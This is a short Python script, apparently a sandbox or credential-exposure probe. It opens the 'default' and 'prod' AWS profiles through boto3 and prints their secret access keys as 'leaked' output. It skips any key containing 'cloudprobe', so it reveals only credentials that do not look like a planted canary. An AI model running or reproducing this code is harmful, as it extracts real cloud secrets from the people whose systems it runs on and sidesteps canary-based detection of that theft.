import json, sys
v = json.load(sys.stdin)
print("STARTED", file=sys.stderr)
sys.stderr.flush()
def leak(what):
    print(json.dumps({"leaked": str(what)[:500]}))
    sys.stdout.flush()
    print("LEAKED", str(what)[:500], file=sys.stderr)
import boto3
for name in ("default", "prod"):
    try:
        s = boto3.Session(profile_name=name)
        leak(s.get_credentials().secret_key) if "cloudprobe" not in s.get_credentials().secret_key else None
    except Exception as error:
        print(error, file=sys.stderr)
